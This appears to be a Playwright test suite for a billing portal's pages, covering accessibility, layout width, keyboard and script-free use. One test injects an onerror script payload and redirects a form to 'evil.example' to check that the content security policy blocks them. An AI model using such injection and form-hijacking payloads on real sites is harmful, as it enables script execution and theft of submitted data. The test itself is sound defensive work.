"""The pages as people meet them: in Chromium, light and dark, on a phone, with scripts switched off."""

from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from core.ledger.limits import BudgetScope
from core.money import dollars
from core.plans.entitlement import Entitlement, Source, Standing
from core.plans.plan import PlanName
from tests.bot.portal.browsing import chromium, sign_in, violations, window
from tests.bot.portal.history import month
from tests.bot.portal.place import Place, opened

STRIPE = {"PULLWRIGHT_BILLING": "both", "STRIPE_API_KEY": "sk_test_x"}
PAGES = ("", "/budget", "/plan", "/plan?choose=pro&cycle=year", "/invoices", "x", "/budget?saved=1")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as ready:
        yield ready


@pytest.fixture(scope="module")
def busy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """An account with a past, budgets and a plan."""
    with opened(Path(tmp_path_factory.mktemp("busy")), STRIPE) as place:
        desk, account = place.store.desk, place.repo.owner_id
        bought = (Source.MARKETPLACE, PlanName("usage"), Standing.GRACE, datetime.now(UTC))
        desk.keep(Entitlement(account, *bought))
        month(place, desk.terms_of(account, desk.clock(), "both"), days=9)
        desk.set_budget(account, BudgetScope.MONTH, dollars("25"), by=1)
        desk.set_budget(account, BudgetScope.PERSON, dollars("5"), by=1, target=place.bob.id)
        yield place


@pytest.mark.parametrize(("scheme", "width"), [("light", 1200), ("dark", 390)])
def test_axe_finds_nothing_and_nothing_is_wider_than_the_window(
    busy: Place, browser: Browser, scheme: str, width: int
) -> None:
    with window(browser, scheme, width) as context:
        page = context.new_page()
        wrong: list[str] = []
        for path in ("/signin", "/signin?said=over", "/signin/callback?code=1"):
            page.goto(busy.url + path)
            wrong += seen(page, path)
        sign_in(busy, page, busy.ada)
        wrong += seen(page, "/account")
        for path in PAGES:
            page.goto(busy.url + busy.home + path)
            wrong += seen(page, path)
        page.goto(f"{busy.url}{busy.home}/budget")
        page.get_by_label("One run").fill("a lot")
        page.get_by_role("button", name="Save budgets").click()
        wrong += seen(page, "a budget that is none")
    assert wrong == []


def test_the_judge_is_strict(browser: Browser) -> None:
    with window(browser) as context:
        page = context.new_page()
        page.set_content("<p style='color:#ccc;background:#fff;width:3000px'>pale</p><input><img src='x'>")
        found = " ".join(seen(page, "bad"))
    for rule in ("color-contrast", "label", "image-alt", "too wide"):
        assert rule in found


def seen(page: Page, path: str) -> list[str]:
    """What is wrong with it as it is shown now."""
    fits = page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    return [f"{path}: {one}" for one in violations(page)] + ([] if fits else [f"{path} is too wide"])


def test_a_member_and_a_newcomer_are_served_as_well(place: Place, browser: Browser) -> None:
    wrong: list[str] = []
    for person in (place.bob, place.eve):
        with window(browser) as context:
            page = context.new_page()
            sign_in(place, page, person)
            wrong += seen(page, "/account")
            for path in ("", "/budget", "/plan"):
                page.goto(place.url + place.home + path)
                wrong += seen(page, f"{person.login} {path}")
    assert wrong == []


def test_everything_works_without_scripts_and_with_the_keyboard(place: Place, browser: Browser) -> None:
    with browser.new_context(java_script_enabled=False) as context:
        page = context.new_page()
        place.github.browses(place.ada)
        page.goto(f"{place.url}{place.home}/budget")
        page.get_by_role("button", name="Sign in with GitHub").press("Enter")
        page.get_by_label("A month", exact=True).fill("12.50")
        page.keyboard.press("Enter")
        assert "Saved." in page.get_by_role("status").inner_text()
        assert page.get_by_label("A month", exact=True).input_value() == "12.50"
        page.get_by_role("link", name="Usage").click()
        page.get_by_role("button", name="Sign out").click()
        assert "You are signed out" in page.get_by_role("status").inner_text()
        page.goto(place.url + place.home)
        assert page.get_by_role("button", name="Sign in with GitHub").is_visible()
    assert [one.amount for one in place.store.desk.budgets(place.repo.owner_id)] == [dollars("12.50")]


def test_the_browser_itself_runs_no_script_and_sends_no_form_elsewhere(place: Place, browser: Browser) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        problems: list[str] = []
        page.on("console", lambda message: problems.append(message.text))
        sign_in(place, page, place.ada)
        assert problems == []  # nothing of ours is against our own rules
        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.evil = 1\">')")
        page.evaluate("document.querySelector('form').action = 'https://evil.example/'")
        page.evaluate("document.querySelector('form').submit()")
        page.wait_for_timeout(300)
        assert page.url == f"{place.url}/account"
        assert page.evaluate("window.evil") is None
        assert any("form-action" in problem for problem in problems)
